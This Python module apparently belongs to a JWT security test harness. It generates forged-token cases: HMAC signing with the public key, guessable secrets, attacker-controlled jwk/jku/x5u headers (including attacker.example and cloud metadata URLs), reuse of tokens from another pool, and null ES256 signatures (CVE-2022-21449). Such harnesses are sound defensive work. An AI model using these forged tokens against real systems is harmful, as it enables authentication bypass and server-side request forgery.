"""C: the wrong key, or the right key used for something else."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from functools import cache

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from proof.attack.case import Case, Shot, token_case
from proof.attack.spellings import certificate
from proof.attack.tokens import encoded, hs256, jwk, signing_input
from proof.attack.world import OTHER_POOL, World


def confusion_cases() -> Iterator[Case]:
    yield from _hmac()
    yield from _key_in_header()
    yield from _other_pool()
    yield from _other_algorithms()
    yield from _serialisations()


def _hmac() -> Iterator[Case]:
    def pem(world: World) -> bytes:
        return world.public_key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)

    def size(world: World) -> int:
        return world.public_key.key_size // 8

    secrets: dict[str, Callable[[World], bytes]] = {
        "pem": pem,
        "pem-without-newline": lambda world: pem(world).rstrip(b"\n"),
        "pem-crlf": lambda world: pem(world).replace(b"\n", b"\r\n"),
        "pem-pkcs1": lambda world: world.public_key.public_bytes(Encoding.PEM, PublicFormat.PKCS1),
        "der-spki": lambda world: world.public_key.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "der-pkcs1": lambda world: world.public_key.public_bytes(Encoding.DER, PublicFormat.PKCS1),
        "jwk-text": lambda world: json.dumps(jwk(world.public_key, world.kid)).encode(),
        "jwk-compact-text": lambda world: json.dumps(jwk(world.public_key, world.kid), separators=(",", ":")).encode(),
        "modulus": lambda world: world.public_key.public_numbers().n.to_bytes(size(world), "big"),
        "modulus-text": lambda world: jwk(world.public_key, world.kid)["n"].encode(),
    }
    for name, secret in secrets.items():
        words = name.replace("-", " ")
        yield token_case(
            "C01",
            f"hs256-{name}",
            f"HS256 with the pool's public key as secret ({words})",
            _hs256(secret, "HS256"),
        )
        yield token_case(
            "C01",
            f"hs256-{name}-called-rs256",
            f"the same under alg RS256 ({words})",
            _hs256(secret, "RS256"),
        )
    guesses: dict[str, Callable[[World], bytes]] = {
        "empty": lambda _: b"",
        "secret": lambda _: b"secret",
        "client-id": lambda world: world.target.client_id.encode(),
        "pool-id": lambda world: world.target.pool_id.encode(),
        "key-id": lambda world: world.kid.encode(),
    }
    for name, guess in guesses.items():
        yield token_case(
            "C02",
            f"hs256-{name}",
            f"HS256 with a guessable secret ({name.replace('-', ' ')})",
            _hs256(guess, "HS256"),
        )


def _hs256(secret: Callable[[World], bytes], called: str) -> Callable[[World], str]:
    return lambda world: hs256(secret(world), world.unsigned(world.header(alg=called)))


def _own_jwk(kid: str | None) -> Callable[[World], object]:
    return lambda world: world.own_jwk(kid)


def _embedded(member: str, value: Callable[[World], object], kid: str | None) -> Callable[[World], str]:
    """Signed by the attacker, whose key, or the way to it, stands in the header."""
    return lambda world: world.forged(world.header(kid=kid or world.kid, **{member: value(world)}))


def _key_in_header() -> Iterator[Case]:
    for name, kid in {"pool-kid": None, "own-kid": "attacker-1"}.items():
        yield token_case(
            "C04",
            f"jwk-{name}",
            "the attacker's key in the header's jwk, signed by it (CVE-2018-0114)",
            _embedded("jwk", _own_jwk(kid), kid),
        )
    addresses: dict[str, Callable[[World], str]] = {
        "attacker": lambda world: f"{world.lure}/jwks.json",
        "file": lambda _: "file:///var/task/keys.json",
        "metadata": lambda _: "http://169.254.169.254/latest/meta-data/",
        "userinfo": lambda world: (
            world.target.issuer.replace("https://", "https://pool@") + "@attacker.example/jwks.json"
        ),
    }
    for member in ("jku", "x5u"):
        for name, address in addresses.items():
            for kid in (None, "attacker-1"):
                yield token_case(
                    "C05",
                    f"{member}-{name}" + ("-own-kid" if kid else ""),
                    f"{member} points to an address of the attacker's ({name})",
                    _embedded(member, address, kid),
                )
    yield token_case(
        "C05",
        "x5c",
        "x5c brings a self-signed certificate",
        lambda world: world.forged(world.header(x5c=[certificate(world.attacker, world.target.issuer)])),
    )
    yield token_case(
        "C05",
        "issuer-attacker",
        "iss is the attacker's own issuer, with a key set to be discovered",
        lambda world: world.forged(payload=world.claims(iss=world.lure)),
    )


def _other_pool() -> Iterator[Case]:
    yield token_case(
        "C07",
        "other-pool",
        "a real token of another pool, same account and region",
        lambda world: world.real(OTHER_POOL).access,
        by="gateway",
    )
    yield token_case(
        "C07",
        "other-pool-id-token",
        "a real ID token of another pool",
        lambda world: world.real(OTHER_POOL).id,
        by="gateway",
    )

    def our_kid(world: World) -> str:
        _, payload, signature = world.real(OTHER_POOL).access.split(".")
        return f"{signing_input(world.header(), b'').partition('.')[0]}.{payload}.{signature}"

    yield token_case("C07", "other-pool-our-kid", "another pool's token under our key id", our_kid, by="gateway")


@cache
def _elliptic() -> ec.EllipticCurvePrivateKey:
    return ec.generate_private_key(ec.SECP256R1())


def _es256(signature: bytes) -> Callable[[World], str]:
    return lambda world: f"{world.unsigned(world.header(alg='ES256'))}.{encoded(signature)}"


def _other_algorithms() -> Iterator[Case]:
    for algorithm in ("ES256", "RS256"):

        def token(world: World, algorithm: str = algorithm) -> str:
            text = world.unsigned(world.header(alg=algorithm))
            first, second = decode_dss_signature(_elliptic().sign(text.encode(), ec.ECDSA(hashes.SHA256())))
            return f"{text}.{encoded(first.to_bytes(32, 'big') + second.to_bytes(32, 'big'))}"

        yield token_case(
            "C09", f"es256-called-{algorithm.lower()}", f"an elliptic signature under alg {algorithm}", token
        )
    for name, signature in {"zeros": bytes(64), "empty": b""}.items():
        yield token_case(
            "C09",
            f"es256-{name}",
            f"ES256 with a signature of {name} (CVE-2022-21449)",
            _es256(signature),
        )


def _serialisations() -> Iterator[Case]:
    def encrypted(world: World) -> str:
        header = {"alg": "RSA-OAEP-256", "enc": "A256GCM", "kid": world.kid}
        return signing_input(header, b"\1" * 256) + f".{encoded(b'iv' * 6)}.{encoded(b'x' * 99)}.{encoded(b't' * 16)}"

    def flattened(world: World) -> str:
        protected, payload, signature = world.access.split(".")
        return json.dumps({"protected": protected, "payload": payload, "signature": signature})

    def general(world: World) -> str:
        protected, payload, signature = world.access.split(".")
        return json.dumps({"payload": payload, "signatures": [{"protected": protected, "signature": signature}]})

    yield token_case("C10", "jwe", "JWE compact, five segments", encrypted)
    yield token_case("C10", "jws-flattened", "a real token in flattened JSON", flattened)
    yield token_case("C10", "jws-general", "a real token in general JSON", general)
    yield Case(
        id="C10",
        name="jws-flattened-bare",
        title="flattened JSON as the whole header value",
        shot=lambda world, _: Shot(headers=(("Authorization", flattened(world)),)),
    )
